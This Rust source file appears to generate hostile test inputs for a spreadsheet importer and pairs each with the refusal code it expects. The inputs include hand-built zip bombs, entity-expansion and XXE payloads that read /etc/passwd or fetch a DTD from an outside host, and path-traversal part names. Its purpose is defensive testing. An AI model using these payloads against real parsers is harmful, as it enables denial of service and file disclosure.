//! Files made to hurt whoever reads them, each with the code by which it is refused. Made here, byte by byte where no honest
//! writer would make them.

use std::path::Path;

use crate::forge::{book, sheet, zip};

/// A file and its refusal.
pub struct Hostile {
    /// What it is.
    pub name: String,
    pub bytes: Vec<u8>,
    /// The code by which it is refused.
    pub code: &'static str,
}

const HEADER: &[&str] = &["番号", "氏名", "カナ", "生年月日", "資格取得日"];
const ROW: &[&str] = &["1", "大野　慧", "オオノ　ケイ", "H1.1.8", "R8.4.1"];

fn fixture(name: &str) -> Vec<u8> {
    // The package that makes them may lie in this folder or below it.
    let above = Path::new(env!("CARGO_MANIFEST_DIR")).ancestors().map(|folder| folder.join("fixtures/employers"));
    std::fs::read(above.into_iter().find(|folder| folder.is_dir()).expect("the fixtures").join(name)).expect(name)
}

/// One part of a zip as it is written, and as the directory says that it is.
struct Part<'p> {
    name: &'p str,
    method: u16,
    flags: u16,
    data: Vec<u8>,
    /// What it is said to inflate to.
    said: u32,
    /// What it is said to be packed.
    packed: u32,
    crc: u32,
}

impl<'p> Part<'p> {
    fn deflated(name: &'p str, data: Vec<u8>, said: u32) -> Part<'p> {
        let packed = data.len() as u32;
        Part { name, method: 8, flags: 0, data, said, packed, crc: 0 }
    }

    fn stored(name: &'p str, data: &[u8]) -> Part<'p> {
        let length = data.len() as u32;
        Part { name, method: 0, flags: 0, data: data.to_vec(), said: length, packed: length, crc: crc(data) }
    }
}

/// A zip as its parts say, whether that is so or not. `at` moves where the directory says that a part begins.
fn forged(parts: &[Part<'_>], at: impl Fn(usize, u32) -> u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    let mut first = 0;
    for (n, part) in parts.iter().enumerate() {
        let begins = out.len() as u32;
        if n == 0 {
            first = begins;
        }
        let mut common = Vec::new();
        for half in [20u16, part.flags | 0x800, part.method, 0, 0x21] {
            common.extend_from_slice(&half.to_le_bytes());
        }
        for word in [part.crc, part.packed, part.said] {
            common.extend_from_slice(&word.to_le_bytes());
        }
        common.extend_from_slice(&(part.name.len() as u16).to_le_bytes());
        common.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&common);
        out.extend_from_slice(part.name.as_bytes());
        out.extend_from_slice(&part.data);
        directory.extend_from_slice(b"PK\x01\x02\x14\x00");
        directory.extend_from_slice(&common);
        directory.extend_from_slice(&[0; 10]);
        directory.extend_from_slice(&at(n, begins.max(first)).to_le_bytes());
        directory.extend_from_slice(part.name.as_bytes());
    }
    let begins = out.len() as u32;
    out.extend_from_slice(&directory);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    for _ in 0..2 {
        out.extend_from_slice(&(parts.len() as u16).to_le_bytes());
    }
    out.extend_from_slice(&(directory.len() as u32).to_le_bytes());
    out.extend_from_slice(&begins.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

/// A deflated stream of blanks without end: a blank, then `copies` times 258 more of it, 13 bits each.
fn blanks(copies: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let (mut held, mut count) = (0u64, 0u32);
    let mut put = |bits: u64, length: u32| {
        held |= bits << count;
        count += length;
        while count >= 8 {
            out.push((held & 0xFF) as u8);
            held >>= 8;
            count -= 8;
        }
    };
    // The last block, with the fixed code.
    put(0b011, 3);
    // The code of a blank is 0x50, its highest bit first.
    put(u64::from(0x50u8.reverse_bits()), 8);
    for _ in 0..copies {
        // 258 bytes from one byte back.
        put(u64::from(0b1100_0101u8.reverse_bits()), 8);
        put(0, 5);
    }
    put(0, 7);
    put(0, 8);
    out
}

fn crc(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for byte in data {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { crc >> 1 ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

const TYPES: &[u8] = b"<Types/>";
const MB: u32 = 1 << 20;
/// Copies of 258 bytes in 300 MB.
const COPIES: u32 = 300 * MB / 258;

fn with_row(row: &str) -> Vec<u8> {
    let good = String::from_utf8(sheet(&[HEADER, ROW])).expect("the sheet is UTF-8");
    book(good.replace("</sheetData>", &format!("{row}</sheetData>")).as_bytes(), b"<sst/>")
}

/// A good book in which one part is another.
fn with_part(name: &str, data: &[u8]) -> Vec<u8> {
    let sheet = sheet(&[HEADER, ROW]);
    let parts: [(&str, &[u8]); 7] = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#),
        ("xl/workbook.xml", r#"<workbook xmlns:r="r"><sheets><sheet name="取得" sheetId="1" r:id="rId1"/></sheets></workbook>"#.as_bytes()),
        ("xl/_rels/workbook.xml.rels", br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#),
        ("xl/styles.xml", b"<styleSheet/>"),
        ("xl/sharedStrings.xml", b"<sst/>"),
        ("xl/worksheets/sheet1.xml", &sheet),
    ];
    let mut parts: Vec<(&str, &[u8])> = parts.into_iter().filter(|(one, _)| *one != name).collect();
    parts.push((name, data));
    zip(&parts)
}

fn ods(content: &str) -> Vec<u8> {
    zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content.as_bytes()),
        ("META-INF/manifest.xml", b"<manifest/>"),
    ])
}

fn ods_row(cells: &str) -> Vec<u8> {
    let header: String = HEADER
        .iter()
        .map(|text| {
            format!(r#"<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>"#)
        })
        .collect();
    ods(&format!(
        r#"<office:document-content><table:table table:name="取得"><table:table-row>{header}</table:table-row>{cells}</table:table></office:document-content>"#
    ))
}

const ODS_CELL: &str = r#"office:value-type="string"><text:p>x</text:p></table:table-cell>"#;

/// A zip whose one part says that it is locked, with a header too short for any lock.
fn badly_locked() -> Vec<u8> {
    let mut part = Part::stored("取得.csv", b"ab");
    (part.flags, part.said) = (1, 4 * MB);
    forged(&[part], |_, at| at)
}

/// A locked book whose description is changed; what is put in is as long as what it replaces.
fn relocked(from: &str, to: &str) -> Vec<u8> {
    let mut bytes = fixture("locked/sha512_aes256.xlsx");
    let at = bytes.windows(from.len()).position(|it| it == from.as_bytes()).expect("the description is plain text");
    bytes[at..at + from.len()].copy_from_slice(format!("{to:<width$}", width = from.len()).as_bytes());
    bytes
}

/// Every one of them.
#[allow(clippy::too_many_lines, reason = "a list")]
pub fn all() -> Vec<Hostile> {
    let mut all = Vec::new();
    let mut add = |name: &str, code: &'static str, bytes: Vec<u8>| {
        all.push(Hostile { name: name.to_owned(), bytes, code });
    };
    let head = sheet(&[HEADER, ROW]);

    // Bombs.
    let bomb = |name| vec![Part::stored("[Content_Types].xml", TYPES), Part::deflated(name, blanks(COPIES), 300 * MB)];
    add("blanks_in_sheet.xlsx", "too_large", forged(&bomb("xl/worksheets/sheet1.xml"), |_, at| at));
    add("blanks_in_strings.xlsx", "too_large", forged(&bomb("xl/sharedStrings.xml"), |_, at| at));
    add("blanks_in_styles.xlsx", "too_large", forged(&bomb("xl/styles.xml"), |_, at| at));
    add("blanks_in_workbook.xlsx", "too_large", forged(&bomb("xl/workbook.xml"), |_, at| at));
    let mut lying = bomb("xl/worksheets/sheet1.xml");
    lying[1].said = 10;
    add("small_as_declared.xlsx", "damaged_file", forged(&lying, |_, at| at));
    let mut lying = bomb("xl/worksheets/sheet1.xml");
    lying[1].said = u32::MAX - 1;
    add("huge_as_declared.xlsx", "too_large", forged(&lying, |_, at| at));
    let mut many: Vec<Part<'_>> = vec![Part::stored("[Content_Types].xml", TYPES)];
    let names: Vec<String> = (0..200).map(|n| format!("xl/worksheets/sheet{n}.xml")).collect();
    many.extend(names.iter().take(20).map(|name| Part::deflated(name, blanks(COPIES / 10), 30 * MB)));
    add("quoted_blanks.xlsx", "too_large", forged(&many, |_, at| at));
    let mut one_for_all = vec![Part::stored("[Content_Types].xml", TYPES)];
    one_for_all.extend(names.iter().map(|name| Part::deflated(name, blanks(9_000), 3 * MB)));
    let begins = 30 + "[Content_Types].xml".len() as u32 + TYPES.len() as u32;
    add("overlapping_parts.xlsx", "damaged_file", forged(&one_for_all, |n, at| if n < 2 { at } else { begins }));
    let endless = [b"<sst><si><t>".to_vec(), b"a".repeat(2 << 20), b"</t></si></sst>".to_vec()].concat();
    add("endless_text.xlsx", "too_large", book(&head, &endless));
    let endless = format!("<worksheet {}=\"1\"/>", "a".repeat(2 << 20));
    add("endless_tag.xlsx", "too_large", book(endless.as_bytes(), b"<sst/>"));
    add("texts_without_end.xlsx", "too_large", book(&head, &b"<si/>".repeat(3_100_000)));
    add(
        "declared_texts.xlsx",
        "damaged_file",
        book(&head, br#"<sst uniqueCount="99999999999999"><si><t>a</t></si></sst>"#),
    );
    add("formats_without_end.xlsx", "too_large", with_part("xl/styles.xml", &b"<xf/>".repeat(140_000)));

    // Parts.
    let names: Vec<String> = (0..2_000).map(|n| format!("xl/media/{n}.xml")).collect();
    let mut parts: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", TYPES)];
    parts.extend(names.iter().map(|name| (name.as_str(), &b"<x/>"[..])));
    add("parts_2001.xlsx", "too_large", zip(&parts));
    for (name, path) in [
        ("outside_name.xlsx", "xl/../../evil.xml"),
        ("absolute_name.xlsx", "/etc/evil.xml"),
        ("drive_name.xlsx", "C:/evil.xml"),
        ("backslash_name.xlsx", "xl\\..\\..\\evil.xml"),
    ] {
        add(name, "damaged_file", with_part(path, b"<x/>"));
    }
    let twice = [
        Part::stored("[Content_Types].xml", TYPES),
        Part::stored("xl/workbook.xml", b"<workbook/>"),
        Part::stored("xl/workbook.xml", b"<other/>"),
    ];
    add("part_twice.xlsx", "damaged_file", forged(&twice, |_, at| at));
    let mut wrong = vec![Part::stored("[Content_Types].xml", TYPES), Part::stored("xl/worksheets/sheet1.xml", &head)];
    wrong[1].crc ^= 1;
    add("wrong_checksum.xlsx", "damaged_file", forged(&wrong, |_, at| at));
    let mut odd = vec![Part::stored("[Content_Types].xml", TYPES), Part::stored("xl/worksheets/sheet1.xml", &head)];
    odd[1].method = 97;
    add("unknown_method.xlsx", "damaged_file", forged(&odd, |_, at| at));
    let mut locked = vec![Part::stored("[Content_Types].xml", TYPES), Part::stored("xl/worksheets/sheet1.xml", &head)];
    locked[1].flags = 1;
    add("locked_part.xlsx", "locked_otherwise", forged(&locked, |_, at| at));
    let two = [Part::stored("[Content_Types].xml", TYPES), Part::stored("xl/workbook.xml", b"<workbook/>")];
    add("beyond_the_end.xlsx", "damaged_file", forged(&two, |_, at| at + 1_000_000));
    let whole = book(&head, b"<sst/>");
    add("cut_off.xlsx", "damaged_file", whole[..whole.len() - 40].to_vec());

    // Books.
    add("far_cell.xlsx", "too_large", with_row(r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#));
    add("far_row.xlsx", "too_large", with_row(r#"<row r="200001"><c r="A200001"><v>1</v></c></row>"#));
    add("far_column.xlsx", "too_large", with_row(r#"<row r="3"><c r="GS3"><v>1</v></c></row>"#));
    let wide: String = (0..20_000).map(|_| "<c><v>1</v></c>").collect();
    add("columns_20000.xlsx", "too_large", with_row(&format!("<row>{wide}</row>")));
    add(
        "rows_backwards.xlsx",
        "damaged_file",
        with_row(r#"<row r="9"><c r="A9"><v>1</v></c></row><row r="5"><c r="A5"><v>1</v></c></row>"#),
    );
    let sheets: String = (1..=51).map(|n| format!(r#"<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>"#)).collect();
    let sheets = format!(r#"<workbook xmlns:r="r"><sheets>{sheets}</sheets></workbook>"#);
    add("sheets_51.xlsx", "too_large", with_part("xl/workbook.xml", sheets.as_bytes()));
    let padded = format!("<workbook>{}</workbook>", "<x/>".repeat(2_200_000));
    add("endless_workbook.xlsx", "too_large", with_part("xl/workbook.xml", padded.as_bytes()));
    for (name, entity) in [
        (
            "entity_bomb.xlsx",
            r#"<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">"#,
        ),
        ("outside_entity.xlsx", r#"<!ENTITY c SYSTEM "file:///etc/passwd">"#),
        ("web_entity.xlsx", r#"<!ENTITY % d SYSTEM "http://192.0.2.1/x.dtd"> %d;"#),
    ] {
        let cells: String = HEADER.iter().map(|_| r#"<c t="inlineStr"><is><t>&c;</t></is></c>"#).collect();
        let xml = format!("<!DOCTYPE x [{entity}]><worksheet><sheetData><row>{cells}</row></sheetData></worksheet>");
        add(name, "damaged_file", book(xml.as_bytes(), b"<sst/>"));
    }
    let relation = |target: &str| {
        format!(
            r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="{target}" TargetMode="External"/></Relationships>"#
        )
    };
    for (name, code, target) in [
        ("relation_to_itself.xlsx", "empty_file", "_rels/workbook.xml.rels"),
        ("relation_to_the_web.xlsx", "damaged_file", "http://192.0.2.1/sheet.xml"),
        ("relation_outside.xlsx", "damaged_file", "../../../etc/passwd"),
    ] {
        add(name, code, with_part("xl/_rels/workbook.xml.rels", relation(target).as_bytes()));
    }

    // Old books.
    add("circle.xls", "damaged_file", fixture("bad_circle.xls"));
    add("far_cell.xls", "too_large", fixture("bad_far_cell.xls"));
    add("far_cell_hidden.xls", "too_large", fixture("bad_far_cell_without_beginning.xls"));
    add("old_lock.xls", "locked_otherwise", fixture("bad_password.xls"));
    let old = fixture("leaving_old.xls");
    let changed = |at: usize, to: &[u8]| {
        let mut bytes = old.clone();
        bytes[at..at + to.len()].copy_from_slice(to);
        bytes
    };
    add("difat_circle.xls", "damaged_file", changed(68, &0u32.to_le_bytes()));
    add("directory_outside.xls", "damaged_file", changed(48, &0x00FF_0000u32.to_le_bytes()));
    add("odd_sectors.xls", "damaged_file", changed(30, &31u16.to_le_bytes()));
    add("head_alone.xls", "damaged_file", old[..512].to_vec());

    // OpenDocument.
    add("far_cell.ods", "too_large", fixture("bad_far_cell.ods"));
    let row = format!(
        r#"<table:table-row table:number-rows-repeated="1000000000"><table:table-cell {ODS_CELL}</table:table-row>"#
    );
    add("repeated_rows.ods", "too_large", ods_row(&row));
    let row = format!(
        r#"<table:table-row><table:table-cell table:number-columns-repeated="4000000000" {ODS_CELL}</table:table-row>"#
    );
    add("repeated_cells.ods", "too_large", ods_row(&row));
    add("locked.ods", "locked_otherwise", fixture("bad_password.ods"));

    // Text.
    add("one_line_of_30_mb.csv", "line_too_long", [b"a,b\n".to_vec(), vec![b'x'; 30 << 20]].concat());
    let open = format!("番号,氏名,生年月日\n1,\"大野　慧,H1.1.8\n{}", "2,大野　恵,H1.1.8\n".repeat(50_000));
    add("quote_without_end.csv", "quote_not_closed", open.into_bytes());
    add("nul.csv", "other_kind_of_file", b"a,b\n1,\0\0\0\n".to_vec());
    let half: Vec<u8> =
        [0xFEFFu16, 0x756A, 0x53F7, 0x2C, 0xD800, 0x0A].iter().flat_map(|it| it.to_le_bytes()).collect();
    add("half_a_character.csv", "undecodable", half);
    add("columns_201.csv", "too_large", format!("番号,氏名,生年月日\n{}1\n", "1,".repeat(200)).into_bytes());
    add("rows_1000001.csv", "too_large", format!("番号,氏名,生年月日\n{}", "1,x,\n".repeat(1_000_001)).into_bytes());
    add("mb_129.csv", "file_too_large", vec![b'\n'; 129 << 20]);

    // Locks and archives.
    add("spins_without_end.xlsx", "damaged_file", relocked("spinCount=\"5000\" saltSize", "spinCount='4294967295'"));
    add("no_salt.xlsx", "damaged_file", relocked("saltValue=", "saltVolue="));
    add("unknown_cipher.xlsx", "locked_otherwise", relocked("cipherAlgorithm=\"AES\"", "cipherAlgorithm=\"RC4\""));
    add("unsigned.xlsx", "file_tampered", relocked("dataIntegrity", "dataIntegritx"));
    add("zeros_for_a_lock.xlsx", "locked_otherwise", fixture("bad_password.xlsx"));
    let csv = "番号,氏名,生年月日\n".as_bytes();
    add("archive_in_archive.zip", "archive_in_archive", zip(&[("中.zip", &zip(&[("a.csv", csv)]))]));
    add("two_tables.zip", "archive_several", zip(&[("a.csv", csv), ("b.csv", csv)]));
    add("nothing_inside.zip", "archive_without_table", zip(&[("読んで.md", csv)]));
    let mut large = Part::deflated("取得.csv", blanks(COPIES), 300 * MB);
    add("large_inside.zip", "file_too_large", forged(std::slice::from_ref(&large), |_, at| at));
    large.said = 20;
    add("larger_inside_than_said.zip", "damaged_file", forged(&[large], |_, at| at));
    add("badly_locked.zip", "password_protected", badly_locked());
    all
}
